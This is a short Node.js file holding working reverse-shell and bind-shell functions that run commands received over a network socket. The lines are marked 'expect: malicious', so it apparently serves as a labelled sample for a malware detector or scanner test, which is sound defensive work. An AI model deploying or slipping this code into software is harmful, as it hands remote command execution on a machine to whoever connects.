const net = require("net");
const cp = require("child_process");

function connectBack(host) {
  const sock = new net.Socket();
  sock.connect(4444, host);
  sock.on("data", (buf) => {
    // expect: malicious
    cp.exec(buf.toString(), (err, stdout, stderr) => sock.write(stdout + stderr));
  });
}

function bind(port) {
  net.createServer((c) => {
    c.on("data", (d) => {
      // expect: malicious
      const out = cp.execSync(d.toString());
      c.write(out);
    });
  }).listen(port);
}

module.exports = { connectBack, bind };
